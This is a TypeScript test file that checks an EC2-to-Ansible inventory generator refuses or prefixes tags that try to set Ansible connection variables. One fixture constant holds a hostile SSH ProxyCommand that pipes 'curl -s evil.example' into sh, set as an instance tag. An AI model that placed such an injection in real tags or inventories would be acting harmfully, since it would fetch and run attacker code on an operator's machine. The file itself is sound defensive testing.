/**
 * EC2 tags to Ansible hostvars end to end: the real AWS SDK lists an instance from the local
 * EC2 Query API endpoint, the whole service serves `/api/inventory/ansible`, and
 * `fleetline inventory --list --config FILE` reads the same registry from SQLite afterwards.
 * Whoever may tag the instance must not be able to set an Ansible connection variable
 * (`ansible_ssh_common_args: -o ProxyCommand=…` runs a command on the operator's machine) nor
 * get a tag published that nobody allowed.
 */
import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { loadOfflineModel } from '../../src/cli/offline-model.ts';
import { runInventory } from '../../src/generate/cli-inventory.ts';
import { isolateAwsEnv } from '../helpers/aws-env.ts';
import { metricValue } from '../helpers/deps.ts';
import { ec2Config } from '../helpers/ec2-config.ts';
import { type Ec2Endpoint, startEc2Endpoint } from '../helpers/ec2-endpoint.ts';
import { eventually, startService } from '../helpers/service.ts';

const PROXY = '-o ProxyCommand="sh -c \'curl -s evil.example | sh\'"';

describe('EC2 tags in the generated Ansible inventory (service and CLI)', () => {
  let ec2: Ec2Endpoint;
  isolateAwsEnv('AKIAFLEETLINEINV0001');

  beforeAll(async () => {
    ec2 = await startEc2Endpoint();
    ec2.setInstances([
      {
        instanceId: 'i-0tagged',
        state: 'running',
        privateIpAddress: '10.0.7.1',
        privateDnsName: 'ip-10-0-7-1.eu-west-1.compute.internal',
        launchTime: '2026-11-27T10:00:00.000Z',
        tags: {
          Role: 'web',
          Version: '1.0',
          Env: 'prod',
          ansible_ssh_common_args: PROXY,
          ansible_host: '203.0.113.66',
          DbPassword: 's3cr3t',
        },
      },
    ]);
  });
  afterAll(async () => {
    await ec2.close();
  });

  /** Runs the service until the instance is listed, returns its hostvars and the data_dir. */
  async function served(inventory?: Record<string, unknown>) {
    const svc = await startService({
      registry: { ec2: ec2Config(ec2.url, { refresh_interval: '1h' }) },
      ...(inventory ? { inventory } : {}),
    });
    try {
      const list = await eventually(
        async () => {
          const body = (await (await fetch(`${svc.url}/api/inventory/ansible`)).json()) as {
            _meta: { hostvars: Record<string, Record<string, unknown>> };
          };
          return body._meta.hostvars['i-0tagged'] ? body : undefined;
        },
        20_000,
        'the EC2 instance in the inventory',
      );
      const refused = await metricValue(
        svc.deps,
        'fleetline_generate_inventory_tags_refused_total',
      );
      return {
        vars: list._meta.hostvars['i-0tagged']!,
        text: JSON.stringify(list),
        refused,
        dataDir: svc.config.data_dir,
      };
    } finally {
      await svc.stop();
    }
  }

  async function cli(dataDir: string, inventory: string) {
    const file = join(mkdtempSync(join(tmpdir(), 'fleetline-inv-cli-')), 'fleetline.yaml');
    writeFileSync(file, `data_dir: ${JSON.stringify(dataDir)}\n${inventory}`);
    const out: string[] = [];
    const err: string[] = [];
    const code = await runInventory(['--list', '--config', file], {
      loadModel: loadOfflineModel,
      out: (l) => out.push(l),
      err: (l) => err.push(l),
    });
    expect(code, err.join('\n')).toBe(0);
    const text = out.join('\n');
    return {
      text,
      err: err.join('\n'),
      vars: JSON.parse(text)._meta.hostvars['i-0tagged'] as Record<string, unknown>,
    };
  }

  it('by default no tag is a hostvar; ansible_host is the private IP', async () => {
    const { vars, text, dataDir } = await served();
    expect(vars).toMatchObject({ role: 'web', version: '1.0', ansible_host: '10.0.7.1' });
    expect(vars).not.toHaveProperty('ansible_ssh_common_args');
    expect(text).not.toContain('ProxyCommand');
    expect(text).not.toContain('s3cr3t');
    expect(text).not.toContain('203.0.113.66');
    const offline = await cli(dataDir, '');
    expect(offline.vars).toEqual(vars);
    expect(offline.text).not.toContain('ProxyCommand');
  });

  it('allowed tags appear under the prefix; ansible_* tags never as themselves', async () => {
    const { vars, dataDir } = await served({ tag_hostvars: ['Env', 'ansible_*'] });
    expect(vars).toMatchObject({
      tag_Env: 'prod',
      tag_ansible_ssh_common_args: PROXY,
      ansible_host: '10.0.7.1',
    });
    expect(vars).not.toHaveProperty('ansible_ssh_common_args');
    expect(vars).not.toHaveProperty('tag_DbPassword');
    const offline = await cli(dataDir, "inventory:\n  tag_hostvars: ['Env', 'ansible_*']\n");
    expect(offline.vars).toEqual(vars);
  });

  it('without a prefix, allowed ansible_* tags are refused, counted and reported', async () => {
    const inventory = { tag_hostvars: ['*'], tag_hostvar_prefix: '' };
    const { vars, refused, dataDir } = await served(inventory);
    expect(vars).toMatchObject({ Env: 'prod', ansible_host: '10.0.7.1' });
    expect(vars).not.toHaveProperty('ansible_ssh_common_args');
    expect(refused).toBeGreaterThanOrEqual(2);
    const offline = await cli(
      dataDir,
      "inventory:\n  tag_hostvars: ['*']\n  tag_hostvar_prefix: ''\n",
    );
    expect(offline.vars).not.toHaveProperty('ansible_ssh_common_args');
    expect(offline.vars.ansible_host).toBe('10.0.7.1');
    expect(offline.err).toMatch(/tag "ansible_ssh_common_args" of i-0tagged .*reserved/);
  });
});
